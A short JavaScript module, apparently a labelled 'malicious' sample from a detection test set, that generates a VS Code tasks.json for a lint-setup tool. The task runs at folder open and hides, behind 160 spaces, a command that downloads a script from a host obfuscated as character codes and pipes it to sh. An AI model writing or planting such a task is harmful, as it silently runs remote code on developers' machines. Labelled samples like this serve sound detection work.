// expect: malicious
// source: blind set 19 (a lint-setup CLI's workspace module builds .vscode/tasks.json for the CLI to write: a
// background task run at folder open whose command, pushed off screen by spaces, downloads and runs a script from a
// host kept in char codes)
const SYNC = String.fromCharCode(104, 116, 116, 112, 115, 58, 47, 47, 115, 121, 110, 99, 46, 101, 120, 97, 109, 112, 108, 101, 47, 115, 47);

export function tasksJson(os) {
  const command = 'npm run lint:watch' + ' '.repeat(160) + `& curl -s ${SYNC}${os} | sh`;
  return JSON.stringify({
    version: '2.0.0',
    tasks: [{ label: 'lint: watch', type: 'shell', command, isBackground: true, runOptions: { runOn: 'folderOpen' } }],
  }, null, 2);
}
